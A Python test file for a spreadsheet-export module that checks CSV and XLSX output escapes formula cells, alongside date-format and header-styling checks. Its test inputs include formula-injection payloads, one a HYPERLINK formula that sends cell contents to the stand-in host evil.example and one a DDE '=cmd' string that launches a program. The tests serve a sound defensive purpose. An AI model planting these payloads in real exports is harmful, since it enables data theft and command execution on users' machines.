"""Spreadsheet exports neutralise formula cells."""

from __future__ import annotations

import csv
import io

import pytest

from ecfhub.lib.spreadsheets import neutralise, write_csv


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_is_kept_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Erin Ect", "Ünal-O’Brien", "", "1 = 1", 42, -3, 2.5, None])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) == value


def test_a_csv_written_with_it_reads_back_as_the_neutralised_text():
    out = io.StringIO()
    write_csv(out, [["Name", "Score"], ["=cmd|' /C calc'!A0", -1], ["Erin", 3]])
    assert out.getvalue().endswith("\r\n")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["Name", "Score"], ["'=cmd|' /C calc'!A0", "-1"], ["Erin", "3"]]


def read_xlsx(data: bytes) -> list[list[object]]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_an_xlsx_written_with_it_reads_back_with_text_cells_never_formulas():
    from openpyxl import load_workbook

    from ecfhub.lib.spreadsheets import write_xlsx

    out = io.BytesIO()
    write_xlsx(out, [["Name", "Score"], ["=cmd|' /C calc'!A0", -1], ["Erin\x07", 3]], sheet="People: [all]")
    book = load_workbook(io.BytesIO(out.getvalue()))
    sheet = book.active
    assert sheet.title == "People   all "
    assert read_xlsx(out.getvalue()) == [["Name", "Score"], ["'=cmd|' /C calc'!A0", -1], ["Erin", 3]]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert sheet["A1"].font.bold


def test_a_formula_in_an_xlsx_cell_would_be_stored_as_a_formula_without_it():
    # The library's own behaviour, which write_xlsx guards against: this test proves the guard is needed.
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active.append(["=1+1"])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"


def test_a_csv_carries_moments_in_iso_8601_with_englands_offset_and_dates_as_dates():
    import datetime

    summer = datetime.datetime(2027, 7, 8, 15, 0, tzinfo=datetime.UTC)
    winter = datetime.datetime(2026, 12, 10, 16, 0, tzinfo=datetime.UTC)
    out = io.StringIO()
    write_csv(out, [["starts", "on"], [summer, datetime.date(2027, 7, 8)], [winter, datetime.date(2026, 12, 10)]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["starts", "on"],
        ["2027-07-08T16:00:00+01:00", "2027-07-08"],
        ["2026-12-10T16:00:00+00:00", "2026-12-10"],
    ]


def test_an_xlsx_holds_real_dates_a_frozen_bold_header_widths_and_a_sheet_about_its_columns():
    import datetime

    from openpyxl import load_workbook

    from ecfhub.lib.spreadsheets import NOTES_SHEET, write_xlsx

    summer = datetime.datetime(2027, 7, 8, 15, 0, tzinfo=datetime.UTC)
    out = io.BytesIO()
    write_xlsx(
        out,
        [["session_start", "declaration_date", "full_name"], [summer, datetime.date(2027, 7, 8), "Erin Ect"]],
        sheet="Evidence",
        notes=[("session_start", "When the session started, on England's clock.")],
    )
    book = load_workbook(io.BytesIO(out.getvalue()))
    sheet = book["Evidence"]
    starts, declared, name = sheet[2]
    assert name.data_type == "s" and name.value == "Erin Ect"
    # Real dates: Excel sees numbers with a date format, which openpyxl reads back as datetimes.
    assert starts.is_date and starts.value == datetime.datetime(2027, 7, 8, 16, 0)
    assert declared.is_date and declared.value.date() == datetime.date(2027, 7, 8)
    assert starts.number_format == "yyyy-mm-dd hh:mm" and declared.number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["A"].width >= len("session_start")
    assert sheet.column_dimensions["C"].width >= len("full_name")
    notes = book[NOTES_SHEET]
    assert [c.value for c in notes[1]] == ["column", "meaning"]
    assert [c.value for c in notes[2]] == ["session_start", "When the session started, on England's clock."]
